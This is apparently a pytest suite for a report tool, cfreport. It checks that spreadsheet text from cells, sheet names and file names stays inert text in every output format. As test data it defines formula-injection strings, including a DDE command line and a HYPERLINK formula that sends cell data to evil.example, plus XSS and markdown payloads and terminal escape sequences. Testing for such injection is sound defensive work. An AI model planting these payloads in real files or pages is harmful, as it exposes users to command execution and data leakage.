"""Hostile text stays text in every writer: the same strings, from cells, a sheet name and a
file name, through every output cfreport writes.

A focal point (or anyone who can send a workbook) controls the text of its cells, its sheet
names and the file's name. None of it may become a formula in a spreadsheet, markup or a link
in Markdown, an escape sequence in a terminal or a log, or a character that makes XML invalid.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from cfreport.cli import app
from tests.conftest import VALID

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
)
MARKUP = (
    "<img src=x onerror=alert(1)>",
    "a | b | c",
    "![t](https://tracker.example/p.png)",
    "[click](javascript:alert(1))",
)
CONTROLS = (
    "Word_x000B_line break",  # Word's line break, as Excel stores it
    "_x001B_[31mred_x001B_[0m _x001B_]0;owned_x0007_",  # recolour, retitle the terminal
)
HOSTILE_SHEET = "=1+1 @x"
"""A sheet name Excel accepts."""
HOSTILE_FILE = "=1+1 \x1b[31mUNDP.xlsx"
"""A file name a POSIX system accepts."""
RAW_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

runner = CliRunner()


def _hostile_workbook(folder: Path) -> Path:
    wb = openpyxl.load_workbook(VALID)
    states = wb["States"]
    row = states.max_row
    for text in (*FORMULAS, *MARKUP, *CONTROLS):
        row += 1
        states.cell(row=row, column=1, value="UNDP-01")
        cell = states.cell(row=row, column=2, value=text)
        cell.data_type = "s"  # typed as text, as a focal point's Excel stores it
    title = wb["Initiatives"]["B2"]
    title.value = FORMULAS[0]
    title.data_type = "s"
    wb["Initiatives"]["B3"] = CONTROLS[1]
    key_results = wb["Key results"]
    key_results["C2"] = MARKUP[0]
    key_results["D2"] = MARKUP[3] + " " + CONTROLS[1]
    key_results["G2"] = FORMULAS[0]
    key_results["G2"].data_type = "s"
    wb["Key result figures"]["B3"] = MARKUP[2]
    wb.create_sheet(HOSTILE_SHEET)
    target = folder / HOSTILE_FILE
    wb.save(target)
    return target


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _hostile_workbook(tmp_path_factory.mktemp("hostile-text"))


@pytest.fixture(scope="module")
def batch(hostile: Path) -> list[str]:
    """The hostile workbook and another whose agency is hostile text: in the summary's list of
    agencies, and in status."""
    wb = openpyxl.load_workbook(VALID.parent / "unicef-2021.xlsx")
    wb["Submission"]["B2"] = MARKUP[0] + " " + MARKUP[1]
    other = hostile.parent / "agency.xlsx"
    wb.save(other)
    return [str(hostile), str(other)]


def cfreport(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code in (0, 1), result.output + result.stderr
    assert "Traceback" not in result.output + result.stderr
    return result.stdout + result.stderr


def _no_raw_controls(text: str) -> None:
    assert not RAW_CONTROLS.search(text), RAW_CONTROLS.findall(text)


def test_the_workbook_carries_the_hostile_text(hostile: Path) -> None:
    out = cfreport("validate", str(hostile), "-f", "json")
    report = json.loads(out[: out.rindex("}") + 1])
    found = {f["found"] for f in report["findings"] if f["code"] == "C105"}
    assert set(FORMULAS + MARKUP) <= found
    # The escape is read, and is data: the tidied title says what it was read from.
    assert any("\x1b" in str(f["params"].get("raw")) for f in report["findings"])
    assert any(f["sheet"] == HOSTILE_SHEET for f in report["findings"])


@pytest.mark.parametrize(
    "args",
    [
        ("validate", "-f", "text"),
        ("validate", "-f", "github"),
        ("status", "-f", "text"),
        ("summarize", "-f", "text", "--explain"),
    ],
    ids=lambda a: " ".join(a),
)
def test_terminal_and_log_outputs_show_escapes_never_obey_them(
    batch: list[str], args: tuple[str, ...]
) -> None:
    out = cfreport(args[0], *batch, *args[1:])
    _no_raw_controls(out)
    if args[0] == "validate":
        assert "\\x1b[31mred" in out  # spelled out, so the reader sees what the cell holds


def test_github_commands_cannot_be_injected(hostile: Path) -> None:
    out = cfreport("validate", str(hostile), "-f", "github")
    for line in out.splitlines()[:-1]:
        assert re.fullmatch(r"::(error|warning) file=[^:]*,title=[^:]*::.*", line), line


def test_junit_is_valid_xml_and_keeps_the_text(hostile: Path) -> None:
    out = cfreport("validate", str(hostile), "-f", "junit")
    suite = ET.fromstring(out.encode())  # a vertical tab or an ESC would not parse
    text = ET.tostring(suite, encoding="unicode")
    assert "\\x0b" in text or "Word line break" in text
    assert "=cmd|" in text


@pytest.mark.parametrize("command", ["validate", "status", "summarize"])
def test_markdown_has_no_markup_links_or_images_from_a_workbook(
    batch: list[str], command: str
) -> None:
    out = cfreport(command, *batch, "-f", "markdown")
    assert "<img" not in out
    assert not re.search(r"(?<!\\)\]\(javascript:", out)
    assert not re.search(r"!(?<!\\)\[", out)
    _no_raw_controls(out)
    tables = re.split(r"\n(?!\|)", out)
    for table in tables:
        rows = [line for line in table.splitlines() if line.startswith("|")]
        # Every row of a table has as many cell separators as its header: a '|' in a
        # workbook's text is escaped.
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in rows}
        assert len(widths) <= 1, widths


@pytest.mark.parametrize("command", ["validate", "status", "summarize"])
def test_csv_fields_never_start_like_a_formula(batch: list[str], command: str) -> None:
    out = cfreport(command, *batch, "-f", "csv", "--no-bom")
    rows = list(csv.reader(io.StringIO(out[out.index(out.lstrip()[0]) :])))
    assert len(rows) > 1
    fields = [field for row in rows for field in row]
    risky = [f for f in fields if f[:1] in ("=", "+", "@") or re.match(r"-[^\d]", f)]
    assert risky == []
    if command == "validate":
        assert "'" + HOSTILE_SHEET in fields  # the sheet column too


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}: {cell.value}"
        for ws in wb.worksheets
        for line in ws.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]


def test_the_annotated_copy_writes_no_formula_and_opens(hostile: Path, tmp_path: Path) -> None:
    source = tmp_path / hostile.name
    shutil.copy(hostile, source)
    cfreport("validate", str(source), "--annotate")
    copy = next(tmp_path.glob("*.checked.xlsx"))
    assert _formula_cells(copy) == []
    findings = openpyxl.load_workbook(copy)["Findings"]
    texts = [str(c.value) for line in findings.iter_rows() for c in line if c.value]
    assert any(t.startswith("=cmd|") for t in texts)  # kept as the text it was
    assert any(HOSTILE_SHEET in t for t in texts)
    _no_raw_controls("".join(texts))


def test_the_summary_workbook_writes_no_formula_of_a_workbook(
    hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "summary.xlsx"
    cfreport("summarize", str(hostile), "-f", "xlsx", "-o", str(out), "--explain")
    assert [c for c in _formula_cells(out) if "1+1" in c or "cmd" in c] == []


def test_next_years_template_keeps_a_title_as_text(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "next.xlsx"
    cfreport("template", "--from", str(hostile), "-o", str(out))
    wb = openpyxl.load_workbook(out)
    titles = [c.value for c in wb["Initiatives"]["B"][1:] if c.value]
    assert FORMULAS[0] in titles
    assert _formula_cells(out) == [] or all("1+1" not in c for c in _formula_cells(out))


def test_a_workbook_no_copy_can_be_made_of_is_skipped_with_one_line(
    hostile: Path, tmp_path: Path
) -> None:
    # '[' in a sheet name: Excel and openpyxl refuse it, calamine reads it. The one file gets
    # a line saying why, and the other copies are still written.
    odd = tmp_path / "odd.xlsx"
    with zipfile.ZipFile(hostile) as src, zipfile.ZipFile(odd, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/workbook.xml":
                data = data.replace(HOSTILE_SHEET.encode(), b"[odd]")
            dst.writestr(info, data)
    fine = shutil.copy(VALID, tmp_path / "fine.xlsx")
    out = cfreport("validate", str(odd), str(fine), "--annotate")
    assert "odd.xlsx: no annotated copy: its XML is too irregular to copy" in out
    assert (tmp_path / "fine.checked.xlsx").exists()
    assert not (tmp_path / "odd.checked.xlsx").exists()


class _Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def test_the_report_pages_show_markup_from_a_workbook_as_text(batch: list[str]) -> None:
    html = cfreport("report", *batch)
    page = _Elements(html[html.index("<!DOCTYPE") :])
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"img", "script", "iframe", "object", "embed"}
    assert all(not name.startswith("on") for _, attrs in page.tags for name in attrs)
    assert all(not str(a.get("href", "")).startswith("javascript") for _, a in page.tags)
    for text in (MARKUP[0], MARKUP[2], MARKUP[3], FORMULAS[0]):
        assert text in page.text
    _no_raw_controls(page.text)
